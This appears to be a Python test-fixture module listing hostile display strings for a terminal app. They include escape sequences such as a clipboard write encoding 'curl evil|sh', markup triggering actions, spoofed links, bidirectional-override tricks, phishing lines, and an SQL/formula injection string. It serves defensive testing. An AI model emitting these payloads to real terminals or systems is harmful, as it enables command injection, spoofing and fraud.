"""Lines that attack the screen instead of telling something; written in escapes."""

from __future__ import annotations

HOSTILE: tuple[str, ...] = (
    # Escape sequences: window title, clipboard (OSC 52), cleared screen, a question to the terminal.
    "\x1b]0;RIVERTON DESK CLOSED\x07everybody go home",
    "copy this \x1b]52;c;Y3VybCBldmlsfHNo\x07 and paste it",
    "\x1b[2J\x1b[H\x1b[31mALL CLEAR\x1b[0m approved by the council",
    "what terminal is this? \x1b[6n\x1b[c",
    "eight bits of trouble \x9b31m\x9d0;owned\x9c",
    # Markup of the toolkit: a stray end tag, a live action, a link that says another address than it has.
    "[/] [/bold] [/red",
    "[@click=app.quit]click here for sandbags[/]",
    "[link=https://flood-grant-riverton.example]official council page[/link] [x=,v={'a[0]'}]",
    # Right-to-left overrides and invisible letters.
    "pay the flood deposit at \u202egnp.elpmaxe-tisoped\u202c now",
    "\u2066\u2067nothing \u200b\u200d\u2060\ufeffto see\u2069 here",
    # Stacked accents.
    "m" + "\u0300\u0301\u0302\u0303\u0304\u0305" * 12 + "u" + "\u0316\u0317\u0318\u0319" * 12 + "d",
    # Look-alike names: a Cyrillic letter in the street, digits in the street, a copied handle.
    "M\u0456ll Street has been sold, send your keys to the new owner",
    "Mi11 Street is free parking tonight, tell your friends",
    "This is the official Riverton C0uncil account. Send your bank card number to vote tomorrow.",
    # Broken text: half a character, a NUL, line ends of other machines, one endless word.
    "half a face \ud83d and a \x00 in the middle",
    "one\r\x0btwo\x0cthree\u2028four\x85five",
    "a" * 1200,
    '\'; DROP TABLE mentions; --  =HYPERLINK("https://hot-tubs-direct.example")',
)
